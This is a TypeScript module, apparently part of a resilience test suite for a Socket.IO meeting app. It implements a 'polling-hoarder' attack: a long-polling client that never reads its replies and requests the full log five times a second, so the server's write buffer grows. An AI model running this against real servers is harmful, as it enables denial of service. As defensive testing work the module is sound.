import { inflate, sleep, targetMeeting } from './setup';
import type { Attack, AttackContext } from './types';

export interface PollingHoarderResult {
  /** `resync` messages the server took (POSTs answered 200). */
  resyncs: number;
  /** Whether the server dropped the session (a POST answered 400: unknown session). */
  dropped: boolean;
}

/**
 * Over Socket.IO's HTTP long-polling transport, with the projector's view token: a client that never
 * polls (GET) for what the server sends, and keeps asking for the whole log (`resync` from 0) with
 * POSTs. engine.io keeps every packet for it in its write buffer until the next poll.
 */
export async function startPollingHoarder(ctx: AttackContext & { inflateTo?: number }) {
  const target = await targetMeeting(ctx.url, ctx.adminToken);
  await inflate(ctx.url, ctx.adminToken, target.meetingId, ctx.inflateTo ?? 600);
  const base = `${ctx.url}/socket.io/?EIO=4&transport=polling`;
  const open = await (await fetch(base)).text();
  const sid = (JSON.parse(open.slice(1)) as { sid: string }).sid;
  const post = (body: string) =>
    fetch(`${base}&sid=${sid}`, { method: 'POST', body, headers: { 'content-type': 'text/plain' } });
  await post(`40${JSON.stringify({ token: target.viewToken, protocol: 1 })}`);
  // One poll, to know the handshake went through (a loaded server may answer it late); then none.
  const first = await (await fetch(`${base}&sid=${sid}`)).text();
  if (first.startsWith('44')) throw new Error(`handshake refused: ${first.slice(0, 200)}`);
  if (!first.includes('40{')) throw new Error(`no handshake answer: ${first.slice(0, 200)}`);
  const result: PollingHoarderResult = { resyncs: 0, dropped: false };
  let running = true;
  const loop = (async () => {
    let beat = Date.now();
    while (running && !result.dropped) {
      // A blind pong now and then keeps the session alive (its pings are never read either).
      const pong = Date.now() - beat > 5000 ? '3\x1e' : '';
      if (pong) beat = Date.now();
      const res = await post(`${pong}42${JSON.stringify(['resync', { sinceSeq: 0 }])}`);
      await res.text();
      if (res.status === 200) result.resyncs++;
      else result.dropped = true;
      await sleep(200);
    }
  })();
  return {
    stop: async (): Promise<PollingHoarderResult> => {
      running = false;
      await loop;
      return result;
    },
  };
}

export const describePollingHoarder = (r: PollingHoarderResult): string =>
  `${r.resyncs} resyncs taken over polling; ${r.dropped ? 'dropped by the server' : 'never dropped'}`;

export const attack: Attack = {
  name: 'polling-hoarder',
  summary: 'a long-polling projector client that never polls and asks for the whole log 5 times a second',
  start: async (ctx) => {
    const running = await startPollingHoarder(ctx);
    return { stop: async () => describePollingHoarder(await running.stop()) };
  },
};
